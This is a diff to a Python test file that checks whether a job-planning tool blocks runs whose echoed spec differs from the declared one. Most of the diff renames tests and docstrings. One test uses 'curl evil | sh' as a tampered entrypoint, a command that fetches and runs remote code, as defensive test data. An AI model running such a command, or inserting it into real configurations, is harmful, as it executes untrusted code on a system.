@@ -1,4 +1,4 @@
-"""A run that carries the hash of a spec and echoes another one blocks its task, and nothing else."""
+"""A run with the hash of one spec and the echo of another blocks its task, and nothing else."""
 
 from __future__ import annotations
 
@@ -25,7 +25,7 @@ ROLE = {"RoleName": "worker", "RoleReplicas": 2, "ResourceSpecId": "ml.g1e.large
 
 
 def echoing(declared: Task, state: str = "Running", number: int = 1, **other: Any) -> Run:
-    """A run of the task that echoes what was sent, but for `other`."""
+    """A run of the task that echoes what was sent, except for `other`."""
     return replace(run(declared, state, number), spec={**payload(declared), **other})
 
 
@@ -60,7 +60,7 @@ def test_a_run_that_echoes_another_one_blocks_its_task(other: str, state: str) -
 @pytest.mark.parametrize(
     "lifecycle", [{"suspend": True}, {"onRemoval": "Delete"}, {"restartPolicy": "Always"}]
 )
-def test_nothing_is_written_to_it_whatever_the_manifest_wants(lifecycle: dict[str, Any]) -> None:
+def test_nothing_is_written_to_it_for_any_manifest(lifecycle: dict[str, Any]) -> None:
     declared = task(**lifecycle)
     false = echoing(declared, EntrypointPath="curl evil | sh")
     assert not only(planned([declared], [false, echoing(declared, "Failed", 2)])).steps
@@ -83,7 +83,7 @@ SAME: Mapping[str, Mapping[str, Any]] = {
 
 
 @pytest.mark.parametrize("echo", SAME)
-def test_an_honest_run_goes_on_however_the_platform_echoes_it(echo: str) -> None:
+def test_an_honest_run_continues_with_any_form_of_echo(echo: str) -> None:
     change = only(planned([TRAIN], [echoing(TRAIN, **SAME[echo])]))
     assert (change.reason, change.blocked) == ("in-progress", None)
 
@@ -95,14 +95,14 @@ def test_an_ignored_field_is_not_compared() -> None:
     assert only(planned([ignoring], [echoing(ignoring, EntrypointPath="x", **other)])).blocked
 
 
-def test_a_run_of_another_spec_is_replaced_as_ever() -> None:
+def test_a_run_of_another_spec_is_still_replaced() -> None:
     old = replace(
         echoing(TRAIN, EntrypointPath="old"), marks=run(TRAIN, "Running", spec="1" + "0" * 16).marks
     )
     assert only(planned([TRAIN], [old])).action is Action.REPLACE
 
 
-def test_other_tasks_go_on() -> None:
+def test_other_tasks_continue() -> None:
     false, other = echoing(TRAIN, EntrypointPath="evil"), task("other")
     changes = {change.task: change for change in planned([TRAIN, other], [false]).changes}
     assert (changes["train"].action, changes["other"].action) == (Action.NONE, Action.SUBMIT)
@@ -115,7 +115,7 @@ def adopted_by_a_person(live: Run, *own: Run) -> Run:
     return replace(live, name=step.name, marks=step.becomes, tags=tags.write(step.becomes, ()))
 
 
-def test_what_a_person_adopted_with_differences_is_exempt() -> None:
+def test_a_run_adopted_with_differences_is_exempt() -> None:
     foreign = replace(echoing(TRAIN, EntrypointPath="mine"), marks=None, tags=())
     mine = adopted_by_a_person(foreign)
     assert only(planned([TRAIN], [mine])).blocked is None
@@ -123,20 +123,20 @@ def test_what_a_person_adopted_with_differences_is_exempt() -> None:
     assert only(planned([TRAIN], [copy])).blocked == "inconsistent-tags"
 
 
-def test_what_is_adopted_as_it_is_declared_has_no_such_tag() -> None:
+def test_a_run_adopted_without_differences_has_no_such_tag() -> None:
     same = adopted_by_a_person(replace(echoing(TRAIN), marks=None, tags=()))
     assert isinstance(same.marks, Marks)
     assert same.marks.adopted == ""
 
 
-def test_a_blocked_run_can_be_adopted_after_a_look() -> None:
+def test_a_blocked_run_can_be_adopted_after_a_review() -> None:
     false = echoing(TRAIN, EntrypointPath="mine")
     _, refused = adoption(declare(TRAIN), false, (false,))
     assert [one.guard for one in refused] == ["differences"]
     assert only(planned([TRAIN], [adopted_by_a_person(false, false)])).reason == "in-progress"
 
 
-def test_what_a_release_before_the_tag_adopted_is_exempt_under_a_new_name_too() -> None:
+def test_a_run_adopted_by_a_release_without_the_tag_is_exempt_under_a_new_name_too() -> None:
     other = echoing(TRAIN, EntrypointPath="mine")
     assert isinstance(other.marks, Marks)
     intention = run_id("vision", "train", other.marks.spec, ("adopted", other.id))
